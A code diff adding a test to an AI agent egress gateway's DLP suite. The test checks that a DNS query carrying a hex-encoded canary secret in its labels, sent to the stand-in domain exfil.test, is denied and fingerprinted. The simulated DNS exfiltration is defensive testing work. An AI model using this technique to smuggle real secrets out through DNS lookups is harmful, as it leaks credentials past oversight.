@@ -4,6 +4,7 @@
  * the upstream sees it; a route upstream that echoes the request never shows the agent the real secret;
  * under `egress.dlp: "audit"` a credential shape is recorded and let through.
  */
+import { createSocket } from 'node:dgram';
 import { createServer, request as httpRequest, type Server } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { gzipSync } from 'node:zlib';
@@ -54,6 +55,7 @@ async function gatewayWith(mode: 'block' | 'audit'): Promise<{ gateway: RunningG
       allow: [`plain.test:${upstreamPort}`],
       extra_hosts: { 'plain.test': '127.0.0.1', 'gh.test': '127.0.0.1' },
       routes: [{ id: 'gh', host: 'gh.test', upstream: `http://gh.test:${upstreamPort}`, auth: 'bearer' }],
+      dns_port: 0,
       dlp: { mode, canaries: ['aws_access_key_id'] },
       limits: { max_header_bytes: 16384, requests_per_minute: 100_000 },
     },
@@ -217,5 +219,28 @@ describe('secrets in what is recorded from the agent', () => {
     const line = lines.find((l): l is CapabilityLine => l.t === 'capability')!;
     expect(line.reason).not.toContain(CANARY);
     expect(line.reason).toMatch(/^need it, my key is \[canary:[0-9a-f]{12}\]$/);
+  });
+});
+
+/** A DNS query for `name` (one question, type A), as a resolver would send it. */
+function dnsQuery(name: string): Buffer {
+  const labels = name.split('.').map((l) => Buffer.concat([Buffer.from([l.length]), Buffer.from(l)]));
+  const header = Buffer.from([0x12, 0x34, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0]);
+  return Buffer.concat([header, ...labels, Buffer.from([0, 0, 1, 0, 1])]);
+}
+
+describe('a name looked up with a secret in its labels', () => {
+  it('is recorded as a dns_lookup denial with the secret fingerprinted', async () => {
+    const { gateway, lines } = await gatewayWith('block');
+    const name = `${Buffer.from(CANARY).toString('hex')}.exfil.test`;
+    const socket = createSocket('udp4');
+    await new Promise<void>((resolve) => {
+      socket.once('message', () => resolve());
+      socket.send(dnsQuery(name), gateway.dnsPort!, '127.0.0.1');
+    });
+    socket.close();
+    const line = egressLines(lines).find((l) => l.reason === 'dns_lookup')!;
+    expect(line.host).toMatch(/^\[canary:[0-9a-f]{12}\]\.exfil\.test$/);
+    expect(JSON.stringify(lines)).not.toContain(Buffer.from(CANARY).toString('hex'));
   });
 });
